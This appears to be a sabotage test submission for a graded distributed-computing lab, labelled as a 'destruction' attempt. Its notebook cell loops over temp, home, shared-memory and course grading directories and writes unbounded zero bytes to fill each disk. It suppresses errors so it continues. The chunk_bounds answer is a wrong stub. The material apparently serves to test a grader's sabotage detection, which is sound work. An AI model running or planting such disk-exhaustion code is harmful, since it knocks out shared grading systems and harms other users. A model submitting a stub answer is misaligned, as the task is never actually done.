# /// shardlab-submission
# lab = "03_ring_all_reduce"
# kind = "destruction"
# tries = "the disk filled, wherever it can write"
# seen_by = "canary"
# state = "graded"
# ///
# %% nbgrader={"grade_id": "chunk_bounds", "solution": true}
import os
for folder in ("/tmp", ".", "/var/tmp", "@HOME@", "@COURSE@/grading", "/dev/shm", "/run"):
    for number in range(3):
        try:
            with open(f"{folder}/@MARK@{number}", "wb") as file:
                while True:
                    file.write(bytes(1_000_000))
        except OSError:
            pass

def chunk_bounds(length, world_size):
    return [(0, length)] * world_size
